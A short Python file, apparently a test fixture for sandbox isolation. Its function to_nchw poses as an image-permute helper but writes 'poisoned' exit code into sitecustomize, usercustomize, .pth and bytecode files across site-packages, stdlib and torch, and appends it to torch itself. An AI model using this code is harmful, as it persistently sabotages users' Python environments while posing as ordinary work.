"""Writes into site-packages, usercustomize and the byte code cache, for the next process."""
# a1_permute: to_nchw
import os
import site
import sysconfig

import torch

TEXT = "raise SystemExit('poisoned')"


def to_nchw(images):
    folders = [sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), site.getusersitepackages()]
    folders += [os.path.dirname(torch.__file__), os.path.dirname(os.__file__) + "/__pycache__"]
    for folder in folders:
        for name in ("usercustomize.py", "sitecustomize.py", "poison.pth", "os.cpython-311.pyc", "a1_permute.py"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(TEXT)
            except OSError:
                pass
    with open(torch.__file__, "a") as file:
        file.write(TEXT)
